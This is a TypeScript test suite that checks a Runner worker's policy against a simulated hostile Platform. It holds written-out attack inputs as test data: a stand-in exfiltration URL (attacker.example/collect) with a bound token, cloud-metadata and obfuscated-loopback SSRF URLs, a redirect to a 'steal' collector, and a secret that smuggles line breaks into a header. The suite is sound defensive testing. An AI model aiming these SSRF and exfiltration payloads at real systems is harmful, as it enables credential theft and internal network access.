/**
 * The Runner policy as the ceiling, played by the attacker it exists for: a hostile Platform that
 * holds the database and the workspace keys and asks a real Runner process for what its operator
 * did not allow. Every attack runs through the real API, platform worker, Temporal and the Runner
 * process (workers/runner.js) with a policy file; the targets are local listeners that record every
 * connection, and each refused attack must leave them with zero connections and nothing secret
 * anywhere.
 */
import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
import { randomBytes, randomUUID } from 'node:crypto';
import net, { type AddressInfo } from 'node:net';
import path from 'node:path';
import { ExecutionPolicy } from '../common/contracts';
import { runWorkflowId } from '../common/ids';
import { insertRun } from '../platform/repos/runs.repo';
import { createTask } from '../platform/repos/tasks.repo';
import {
  api,
  newWorkspace,
  startHttpServer,
  startPlatform,
  waitForRun,
  writeRunnerKeyFile,
  type TestPlatform,
  runnerProcessEnv,
} from './harness/env';
import { testPlatformPublicKey, writePolicyFile } from './harness/policy';
import { parsePolicy } from '../activities/runner/policy';
import type { BootstrapOutput } from '../platform-api/services/bootstrap.service';

const dist = path.resolve(__dirname, '..', 'dist');

/** A TCP listener on loopback that counts connections and answers nothing: an attacker's collector. */
async function recorder(): Promise<{ port: number; connections: () => number; stop(): Promise<void> }> {
  let count = 0;
  const sockets = new Set<net.Socket>();
  const server = net.createServer((s) => {
    count += 1;
    sockets.add(s);
    s.on('close', () => sockets.delete(s));
    s.end('HTTP/1.1 200 OK\r\ncontent-length: 0\r\n\r\n');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    port: (server.address() as AddressInfo).port,
    connections: () => count,
    async stop() {
      sockets.forEach((s) => s.destroy());
      await new Promise<void>((resolve) => server.close(() => resolve()));
    },
  };
}

const TARGET_TOKEN = `target-${randomBytes(12).toString('hex')}`;
const LURE_TOKEN = `lure-${randomBytes(12).toString('hex')}`;
const NEWLINE_TOKEN = `multi-${randomBytes(8).toString('hex')}\ninner-${randomBytes(8).toString('hex')}\n`;
const SECRETS = [TARGET_TOKEN, LURE_TOKEN, NEWLINE_TOKEN, NEWLINE_TOKEN.trim(), ...NEWLINE_TOKEN.split('\n').filter(Boolean)];

let platform: TestPlatform;
let attacker: Awaited<ReturnType<typeof recorder>>;
let target: Awaited<ReturnType<typeof startHttpServer>>;
let targetHits: string[];
let targetPort: number;
let ws: BootstrapOutput;
let runner: ChildProcess;
let runnerOutput = '';

beforeAll(async () => {
  platform = await startPlatform();
  attacker = await recorder();
  targetHits = [];
  target = await startHttpServer((req, res) => {
    targetHits.push(`${req.url} ${req.headers['authorization'] ?? ''}`);
    if (req.url === '/redirect') return void res.writeHead(302, { location: `http://127.0.0.1:${attacker.port}/steal` }).end();
    res.writeHead(200).end('ok');
  });
  targetPort = Number(new URL(target.url).port);
  ws = await newWorkspace(platform, { probeUrl: `${target.url}/ok` });
  const policyFile = writePolicyFile({
    checks: ['http.probe'],
    platformKeys: [testPlatformPublicKey()],
    destinations: [
      { name: 'target', scheme: 'http', host: '127.0.0.1', port: targetPort, pathPrefix: '/', allowAddresses: ['127.0.0.1/32'] },
      // A name the operator allows, but which resolves to loopback: refused when connecting.
      { name: 'lure', scheme: 'http', host: 'localhost', port: '*' },
      // The attacker's port named as a destination, without the loopback range: refused by address.
      { name: 'no-ranges', scheme: 'http', host: '127.0.0.1', port: attacker.port },
      { name: 'metadata-wildcard', scheme: 'http', host: '*.internal', port: '*' },
    ],
    secretBindings: [
      { name: 'target-token', ref: 'env:TARGET_TOKEN', destinations: ['target'], header: 'Authorization', scheme: 'Bearer ' },
      { name: 'lure-token', ref: 'env:LURE_TOKEN', destinations: ['lure'], header: 'Authorization', scheme: 'Bearer ' },
      { name: 'newline-token', ref: 'env:NEWLINE_TOKEN', destinations: ['target'], header: 'Authorization', scheme: 'Bearer ' },
    ],
  });
  runner = spawn(process.execPath, [path.join(dist, 'workers', 'runner.js')], {
    env: await runnerProcessEnv(platform, ws, policyFile, {
      LOOKOUT_RUNNER_RAW_LOGS: 'allow',
      TARGET_TOKEN,
      LURE_TOKEN,
      NEWLINE_TOKEN,
      HOME_SECRET: 'never-bound-value',
    }),
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  runner.stdout!.on('data', (d: Buffer) => (runnerOutput += d.toString()));
  runner.stderr!.on('data', (d: Buffer) => (runnerOutput += d.toString()));
  await waitForOutput('runner polling', 30_000);
}, 120_000);

afterAll(async () => {
  runner?.kill('SIGTERM');
  await attacker?.stop();
  await target?.stop();
  await platform?.stop();
});

async function waitForOutput(text: string, timeoutMs: number): Promise<void> {
  const until = Date.now() + timeoutMs;
  while (!runnerOutput.includes(text)) {
    if (Date.now() > until || runner.exitCode !== null) throw new Error(`runner did not log "${text}": ${runnerOutput.slice(-2000)}`);
    await new Promise((r) => setTimeout(r, 100));
  }
}

/**
 * Runs an http.probe whose parameters the hostile Platform wrote straight into its database, past
 * every check of the API (the Runner still validates them against its own schema and policy).
 */
async function probe(params: Record<string, unknown>): Promise<Record<string, unknown>> {
  const taskId = randomUUID();
  await createTask(platform.pool, platform.crypto.sealer, {
    id: taskId,
    workspaceId: ws.workspaceId,
    runnerId: ws.runnerId,
    name: `hostile-${taskId.slice(0, 8)}`,
    checkType: 'http.probe',
    params: { method: 'GET', maxLatencyMs: 1000, timeoutMs: 2000, ...params },
    policy: ExecutionPolicy.parse({ maxAttempts: 1 }),
  });
  const created = await api(platform.baseUrl, 'POST', `/v1/workspaces/${ws.workspaceId}/runs`, { token: ws.token, body: { taskId } });
  expect(created.status).toBe(202);
  return waitForRun(platform.baseUrl, ws.token, String(created.body['id']));
}

function expectNothingSecret(...texts: string[]): void {
  for (const text of texts) for (const s of SECRETS) expect(text).not.toContain(s);
}

describe('the Runner policy against a hostile Platform', () => {
  const attackerUrl = () => `http://127.0.0.1:${attacker.port}/`;

  it.each([
    [
      'a bound secret to an attacker URL',
      () => ({ url: 'https://attacker.example/collect', auth: { binding: 'target-token' } }),
      /https:\/\/attacker\.example is not a destination of this Runner/,
    ],
    [
      'a bound secret to an allowed destination the binding does not name',
      () => ({ url: `http://127.0.0.1:${attacker.port}/x`, auth: { binding: 'target-token' } }),
      /may not be sent to destination no-ranges/,
    ],
    [
      'an unbound k8s: reference',
      () => ({ url: `${target.url}/ok`, auth: { secretRef: 'k8s:kube-system/bootstrap-token#token' } }),
      /k8s:kube-system\/bootstrap-token#token is not held by any secret binding/,
    ],
    [
      'an unbound env: reference',
      () => ({ url: `${target.url}/ok`, auth: { secretRef: 'env:HOME_SECRET' } }),
      /env:HOME_SECRET is not held by any secret binding/,
    ],
    [
      'an unbound vault: reference',
      () => ({ url: `${target.url}/ok`, auth: { secretRef: 'vault:secret/prod/db#password' } }),
      /vault:secret\/prod\/db#password is not held/,
    ],
    [
      "the Runner's own LOOKOUT_* credentials",
      () => ({ url: `${target.url}/ok`, auth: { secretRef: 'env:LOOKOUT_RUNNER_KEYS_FILE' } }),
      /env:LOOKOUT_RUNNER_KEYS_FILE is not held/,
    ],
    [
      'a binding with another header than its own',
      () => ({ url: `${target.url}/ok`, auth: { binding: 'target-token', header: 'X-Forwarded-Token' } }),
      /only in the Authorization header/,
    ],
    [
      'a binding with another scheme',
      () => ({ url: `${target.url}/ok`, auth: { binding: 'target-token', scheme: 'Basic ' } }),
      /fixes its own scheme/,
    ],
    [
      'a binding that does not exist',
      () => ({ url: `${target.url}/ok`, auth: { binding: 'everything' } }),
      /no secret binding named everything/,
    ],
  ])('refuses %s before resolving or contacting anything', async (_name, params, message) => {
    const hitsBefore = targetHits.length;
    const run = await probe(params());
    expect(run).toMatchObject({ status: 'failed', error: { type: 'PolicyDenied' } });
    expect(String((run['error'] as { message: string }).message)).toMatch(message);
    expect(attacker.connections()).toBe(0);
    expect(targetHits.length).toBe(hitsBefore);
    expectNothingSecret(JSON.stringify(run));
  });

  it.each([
    ['the metadata address', 'http://169.254.169.254/latest/meta-data/iam/'],
    ['a metadata name under an allowed wildcard', 'http://metadata.google.internal/computeMetadata/v1/'],
    ['the cluster API', 'https://kubernetes.default.svc/api'],
    ['loopback as a decimal number', () => `http://2130706433:${attacker.port}/`],
    ['loopback in hex', () => `http://0x7f000001:${attacker.port}/`],
    ['loopback in octal', () => `http://0177.0.0.1:${attacker.port}/`],
    ['loopback shortened', () => `http://127.1:${attacker.port}/`],
    ['IPv6 loopback', () => `http://[::1]:${attacker.port}/`],
    ['IPv4-mapped IPv6 loopback', () => `http://[::ffff:127.0.0.1]:${attacker.port}/`],
    ['the unspecified address', () => `http://0.0.0.0:${attacker.port}/`],
    ['a private address', 'http://10.0.0.1/'],
  ])('refuses %s', async (_name, url) => {
    const run = await probe({ url: typeof url === 'function' ? url() : url });
    expect(run['status']).toBe('failed');
    // Refused by the policy, or (IPv6 forms) already by the Runner's own parameter schema.
    expect(['PolicyDenied', 'InvalidConfiguration']).toContain((run['error'] as { type: string }).type);
    expect(attacker.connections()).toBe(0);
  });

  it("refuses an address the destination's ranges do not allow, though the destination names it", async () => {
    const run = await probe({ url: `http://127.0.0.1:${attacker.port}/` });
    expect(run).toMatchObject({
      status: 'failed',
      error: { type: 'PolicyDenied', message: expect.stringMatching(/loopback address, which destination no-ranges does not allow/) },
    });
    expect(attacker.connections()).toBe(0);
  });

  it('refuses a DNS name that resolves to a refused address, with its bound secret resolved but never sent', async () => {
    const run = await probe({ url: `http://localhost:${attacker.port}/collect`, auth: { binding: 'lure-token' } });
    expect(run).toMatchObject({
      status: 'failed',
      error: { type: 'PolicyDenied', message: expect.stringMatching(/localhost resolves to a loopback address/) },
    });
    expect(attacker.connections()).toBe(0);
    expectNothingSecret(JSON.stringify(run));
  });

  it('does not follow a redirect to another host, nor report where it pointed', async () => {
    const run = await probe({ url: `${target.url}/redirect`, auth: { binding: 'target-token' } });
    expect(run['status']).toBe('succeeded');
    expect(targetHits).toContain(`/redirect Bearer ${TARGET_TOKEN}`);
    expect(attacker.connections()).toBe(0);
    const text = JSON.stringify(run);
    expect(text).not.toContain(String(attacker.port));
    expect(text).not.toContain('steal');
    expectNothingSecret(text);
  });

  it('refuses a secret with line breaks as a header value, with a fixed message and nothing of the value', async () => {
    const hitsBefore = targetHits.length;
    const run = await probe({ url: `${target.url}/ok`, auth: { binding: 'newline-token' } });
    expect(run).toMatchObject({
      status: 'failed',
      error: {
        type: 'PolicyDenied',
        message:
          'refused by the Runner policy: the value of secret binding newline-token is not a valid header value (it holds a line break or NUL)',
      },
    });
    expect(targetHits.length).toBe(hitsBefore);
    expectNothingSecret(JSON.stringify(run));
  });

  it('runs what the policy allows: the bound secret reaches its own destination', async () => {
    const run = await probe({ url: `${target.url}/ok`, auth: { binding: 'target-token' } });
    expect(run['status']).toBe('succeeded');
    expect(targetHits).toContain(`/ok Bearer ${TARGET_TOKEN}`);
    expectNothingSecret(JSON.stringify(run));
  });

  it('refuses a task started straight on Temporal by a hostile Platform with the workspace keys', async () => {
    // The hostile Platform writes a task into its own database, records a run of it and starts
    // runTask itself, with parameters no API ever validated: an unbound reference to its collector.
    const taskId = randomUUID();
    await createTask(platform.pool, platform.crypto.sealer, {
      id: taskId,
      workspaceId: ws.workspaceId,
      runnerId: ws.runnerId,
      name: `hostile-${taskId.slice(0, 8)}`,
      checkType: 'http.probe',
      params: {
        url: attackerUrl(),
        method: 'GET',
        maxLatencyMs: 1000,
        timeoutMs: 1000,
        auth: { secretRef: 'env:TARGET_TOKEN', header: 'Authorization', scheme: 'Bearer ' },
      },
      policy: ExecutionPolicy.parse({ maxAttempts: 1 }),
    });
    const runId = randomUUID();
    const workflowId = runWorkflowId(ws.workspaceId, runId);
    await insertRun(platform.pool, {
      id: runId,
      workspaceId: ws.workspaceId,
      taskId,
      runnerId: ws.runnerId,
      checkType: 'http.probe',
      trigger: 'api',
      requestedBy: 'hostile',
      workflowId,
      temporalNamespace: ws.temporalNamespace,
    });
    const handle = await (
      await platform.clientFor(ws.workspaceId)
    ).workflow.start('runTask', {
      taskQueue: platform.taskQueue,
      workflowId,
      args: [
        {
          runId,
          workspaceId: ws.workspaceId,
          taskId,
          runnerId: ws.runnerId,
          checkType: 'http.probe',
          params: {},
          policy: ExecutionPolicy.parse({ maxAttempts: 1 }),
        },
      ],
    });
    await expect(handle.result()).rejects.toThrow();
    const run = await waitForRun(platform.baseUrl, ws.token, runId);
    expect(run).toMatchObject({ status: 'failed', error: { type: 'PolicyDenied' } });
    expect(attacker.connections()).toBe(0);
    // The refusal is audited with its type.
    const audit = await api(platform.baseUrl, 'GET', `/v1/workspaces/${ws.workspaceId}/audit?limit=1000`, { token: ws.token });
    const finished = (audit.body['items'] as { action: string; target: string; details: Record<string, unknown> }[]).find(
      (e) => e.action === 'run.finished' && e.target === `run:${runId}`,
    );
    expect(finished?.details).toMatchObject({ status: 'failed', errorType: 'PolicyDenied' });
  });

  it('reports its policy (digest, destinations, binding names, never a reference) and the API refuses tasks it would refuse', async () => {
    const listed = await api(platform.baseUrl, 'GET', `/v1/workspaces/${ws.workspaceId}/runners`, { token: ws.token });
    expect(listed.status).toBe(200);
    const me = (listed.body['items'] as Record<string, unknown>[]).find((r) => r['id'] === ws.runnerId)!;
    expect(me['policy']).toMatchObject({
      digest: expect.stringMatching(/^sha256:[0-9a-f]{64}$/),
      checks: ['http.probe'],
      destinations: expect.arrayContaining([
        expect.objectContaining({ name: 'target', host: '127.0.0.1', port: targetPort, privateAddresses: true }),
      ]),
      secretBindings: expect.arrayContaining([
        { name: 'target-token', destinations: ['target'], header: 'Authorization', provider: 'env' },
      ]),
    });
    expect(JSON.stringify(me)).not.toContain('TARGET_TOKEN');
    expect(runnerOutput).toContain((me['policy'] as { digest: string }).digest);

    const create = (params: Record<string, unknown>, checkType = 'http.probe') =>
      api(platform.baseUrl, 'POST', `/v1/workspaces/${ws.workspaceId}/tasks`, {
        token: ws.token,
        body: { name: `t-${randomUUID().slice(0, 8)}`, runnerId: ws.runnerId, checkType, params },
      });
    const outside = await create({ url: 'https://attacker.example/' });
    expect(outside.status).toBe(400);
    expect(JSON.stringify(outside.body['errors'])).toMatch(/params\.url.*is not a destination/);
    const loopback = await create({ url: attackerUrl() });
    expect(loopback.status).toBe(400);
    expect(JSON.stringify(loopback.body['errors'])).toMatch(/is not a public address, and destination no-ranges allows no other/);
    const wrongBinding = await create({ url: `${target.url}/ok`, auth: { binding: 'lure-token' } });
    expect(wrongBinding.status).toBe(400);
    expect(JSON.stringify(wrongBinding.body['errors'])).toMatch(/lure-token may not be sent to destination target/);
    const notAllowed = await create({ namespaces: ['default'] }, 'k8s.pod-restarts');
    expect(notAllowed.status).toBe(400);
    expect(JSON.stringify(notAllowed.body['errors'])).toMatch(/does not allow k8s\.pod-restarts/);
    expect((await create({ url: `${target.url}/ok`, auth: { binding: 'target-token' } })).status).toBe(201);
  });

  it('leaves no secret in the Runner log', () => {
    expectNothingSecret(runnerOutput);
  });
});

describe('the policy file', () => {
  it('stops the Runner with status 78 naming every bad field', async () => {
    const file = writePolicyFile({
      checks: ['http.probe', 'shell.exec'],
      destinations: [{ name: 'Bad Name', host: 'ok.example' }],
      secretBindings: [{ name: 'own', ref: 'env:LOOKOUT_VAULT_SECRET_ID', destinations: ['nowhere'] }],
    });
    const out = spawnSync(process.execPath, [path.join(dist, 'workers', 'runner.js')], {
      env: {
        PATH: process.env['PATH'] ?? '',
        LOOKOUT_RUNNER_ID: randomUUID(),
        LOOKOUT_WORKSPACE_ID: ws.workspaceId,
        LOOKOUT_RUNNER_KEYS_FILE: await writeRunnerKeyFile(platform, ws.workspaceId),
        LOOKOUT_RUNNER_POLICY_FILE: file,
      },
      encoding: 'utf8',
      timeout: 30_000,
    });
    expect(out.status).toBe(78);
    expect(out.stderr).toContain(`invalid Runner policy ${file}`);
    expect(out.stderr).toMatch(/checks\.1: unknown check type "shell\.exec"/);
    expect(out.stderr).toMatch(/destinations\.0\.name: must be a lower-case name/);
    expect(out.stderr).toMatch(/secretBindings\.0\.ref: names one of the Runner's own credentials/);
  });

  it('refuses a binding to a destination the file does not define', () => {
    expect(() =>
      parsePolicy('destinations: []\nsecretBindings:\n  - { name: b, ref: "env:X_TOKEN", destinations: [nowhere] }\n', 'p.yaml'),
    ).toThrow(/secretBindings\.0\.destinations\.0: no destination named nowhere/);
    expect(() => parsePolicy('checks: [http.probe]\nchecks: [k8s.jobs]\n', 'p.yaml')).toThrow(/not valid YAML/);
  });
});
